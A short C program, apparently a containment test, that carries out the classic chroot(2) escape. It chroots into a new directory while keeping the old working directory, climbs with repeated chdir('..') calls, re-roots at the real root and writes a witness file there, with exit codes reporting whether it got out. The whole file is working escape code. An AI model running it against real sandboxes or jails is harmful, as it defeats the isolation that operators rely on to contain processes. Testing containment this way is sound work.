/* The classic way out of chroot(2): enter another root with the working folder left behind, climb from there to the
 * real one, and make that the root. Exit status 0: out, and a file written there; 1: still inside. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char created[4096];
    int file, step;

    if (argc != 2)
        return 2;
    mkdir("/below", 0755);
    if (chroot("/below") != 0) {
        perror("escape: chroot");
        return 1;
    }
    for (step = 0; step < 100; step++)
        if (chdir("..") != 0)
            return 1;
    if (chroot(".") != 0) {
        perror("escape: chroot .");
        return 1;
    }
    if (access(argv[1], F_OK) != 0) {
        perror("escape: no witness");
        return 1;
    }
    snprintf(created, sizeof created, "%s/created", argv[1]);
    file = open(created, O_CREAT | O_WRONLY, 0644);
    if (file < 0)
        perror("escape: seen, but not written");
    else
        close(file);
    return 0;
}
